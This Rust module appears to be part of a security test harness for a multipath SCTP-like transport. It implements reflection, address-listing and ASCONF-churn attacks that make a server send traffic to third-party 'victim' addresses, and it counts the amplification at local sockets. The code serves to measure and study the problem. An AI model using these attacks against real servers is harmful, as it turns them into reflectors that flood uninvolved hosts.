//! Attacks that make the server send to somebody else.

use super::peer::{Event, Extras, HEADERS, Peer};
use super::{Words, craft, keys, other};
use manypath_wire::chunk::{Chunk, CookieEcho, Data, Shutdown, Unknown};
use manypath_wire::{Packet, Ppid, Ssn, StreamId, Tsn};
use serde_json::{Value, json};
use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

/// UDP port of attackers that list others: it is the one at which those are sent to.
const PORT: u16 = 40_000;

/// The victims, who count what comes.
struct Victims {
    sockets: Vec<UdpSocket>,
    packets: u64,
    bytes: u64,
    /// Packets with user data.
    data: u64,
}

impl Victims {
    fn new(hosts: std::ops::Range<u8>) -> io::Result<Self> {
        let sockets = hosts.map(|host| UdpSocket::bind((other(host), PORT)));
        let sockets: Vec<_> = sockets.collect::<io::Result<_>>()?;
        sockets.iter().try_for_each(|socket| socket.set_nonblocking(true))?;
        Ok(Self { sockets, packets: 0, bytes: 0, data: 0 })
    }

    fn addresses(&self) -> Vec<Ipv4Addr> {
        let ips = self.sockets.iter().flat_map(UdpSocket::local_addr).map(|address| address.ip());
        let v4 = ips.filter_map(|ip| match ip {
            IpAddr::V4(v4) => Some(v4),
            IpAddr::V6(_) => None,
        });
        v4.collect()
    }

    fn count(&mut self) {
        let mut buffer = vec![0; 65536];
        for socket in &self.sockets {
            while let Ok(len) = socket.recv(&mut buffer) {
                self.packets += 1;
                self.bytes += len as u64 + HEADERS;
                let parsed = Packet::parse_unchecked(&buffer[..len]);
                let is_data = |packet: &Packet<'_>| {
                    packet.chunks().flatten().any(|chunk| matches!(chunk, Chunk::Data(_)))
                };
                self.data += u64::from(parsed.as_ref().is_ok_and(is_data));
            }
        }
    }

    fn report(&self, sent: u64) -> Value {
        json!({ "sent": sent, "bytes": self.bytes, "packets": self.packets, "data": self.data })
    }
}

/// A packet whose answer goes to the address that it gives as its source.
fn bait(kind: &str) -> io::Result<Vec<u8>> {
    let (port, tag) = (50_000, craft::random());
    let chunk = match kind {
        "init" => return Ok(craft::init(port, tag, 100_000, &[])),
        "init-of-manypath" => {
            let parameters = craft::parameters(&[
                manypath_wire::Parameter::AdaptationIndication(craft::FLOWS),
                manypath_wire::Parameter::SupportedExtensions(&[0xC0, 0x82, 0x40, 0xC1, 0x80]),
            ]);
            return Ok(craft::init(port, tag, 100_000, &parameters));
        }
        "data" => Chunk::Data(Data {
            tsn: Tsn(1),
            stream: StreamId(0),
            ssn: Ssn(0),
            ppid: Ppid(0),
            unordered: false,
            begin: true,
            end: true,
            immediate: false,
            payload: b"x",
        }),
        "shutdown" => Chunk::Shutdown(Shutdown { cum_tsn: Tsn(1) }),
        "shutdown-ack" => Chunk::ShutdownAck,
        "cookie" => Chunk::CookieEcho(CookieEcho { cookie: &[7; 94] }),
        // Its sender wants to be told that nobody knows it.
        "unknown" => Chunk::Unknown(
            Unknown::from_bytes(&[0x7e, 0, 0, 8, 1, 2, 3, 4]).map_err(io::Error::other)?,
        ),
        _ => return Err(io::Error::other(format!("there is no packet '{kind}'"))),
    };
    Ok(craft::packet(port, tag, &[chunk]))
}

/// `reflect SERVER KIND COUNT`: packets that victims seem to have sent, and what those get.
pub(super) fn reflect(server: SocketAddr, words: &mut Words) -> io::Result<Value> {
    let (kind, count): (String, u64) = (words.next()?, words.next()?);
    let mut victims = Victims::new(1..51)?;
    let mut sent = 0;
    for number in 0..count {
        let bytes = bait(&kind)?;
        let at = usize::try_from(number).unwrap_or(0) % victims.sockets.len();
        victims.sockets[at].send_to(&bytes, server)?;
        sent += bytes.len() as u64 + HEADERS;
        if number % 20 == 19 {
            std::thread::sleep(Duration::from_millis(5));
            victims.count();
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    victims.count();
    Ok(victims.report(sent))
}

/// `listed SERVER SOURCE SECONDS URL-PORT`: an association that lists 16 victims, and downloads if the port is
/// not 0.
pub(super) fn listed(server: SocketAddr, words: &mut Words) -> io::Result<Value> {
    let (source, seconds, port): (IpAddr, f64, u16) = (words.next()?, words.next()?, words.next()?);
    let mut victims = Victims::new(101..117)?;
    let addresses = victims.addresses();
    let extras = Extras { addresses: &addresses, ..Extras::default() };
    let peer = Peer::connect(SocketAddr::new(source, PORT), server, &extras)?;
    let mut peer = peer.ok_or_else(|| io::Error::other("the server refused"))?;
    if port != 0 {
        peer.open((server.ip(), port).into(), (source, 4711).into())?;
        peer.say("GET /large HTTP/1.0\r\n\r\n")?;
    }
    let until = Instant::now() + Duration::from_secs_f64(seconds);
    while Instant::now() < until && !peer.ended {
        let events = peer.step(Duration::from_millis(20))?;
        if events.iter().any(|event| matches!(event, Event::Data { .. })) {
            peer.sack(peer.cumulative(), manypath_wire::chunk::GapBlocks::EMPTY)?;
        }
        victims.count();
    }
    let mut report = victims.report(peer.sent);
    report["downloaded"] = peer.data.into();
    Ok(report)
}

/// `asconf SERVER SOURCE SECONDS`: eight victims are removed and added again, over and over.
pub(super) fn asconf(server: SocketAddr, words: &mut Words) -> io::Result<Value> {
    let (source, seconds): (Ipv4Addr, f64) = (words.next()?, words.next()?);
    let mut victims = Victims::new(101..109)?;
    let extras = Extras { authenticate: true, ..Extras::default() };
    let peer = Peer::connect((source, PORT).into(), server, &extras)?;
    let mut peer = peer.ok_or_else(|| io::Error::other("the server refused"))?;
    let requests = keys::renewal(&victims.addresses());
    let until = Instant::now() + Duration::from_secs_f64(seconds);
    let (mut sequence, mut asked) = (peer.first(), 0_u64);
    while Instant::now() < until && !peer.ended {
        peer.send_authenticated(&keys::asconf(sequence, source, &requests))?;
        (sequence, asked) = (sequence.wrapping_add(1), asked + 1);
        peer.step(Duration::from_millis(7))?;
        victims.count();
    }
    let mut report = victims.report(peer.sent);
    (report["asked"], report["answered"]) = (asked.into(), peer.changes.into());
    Ok(report)
}
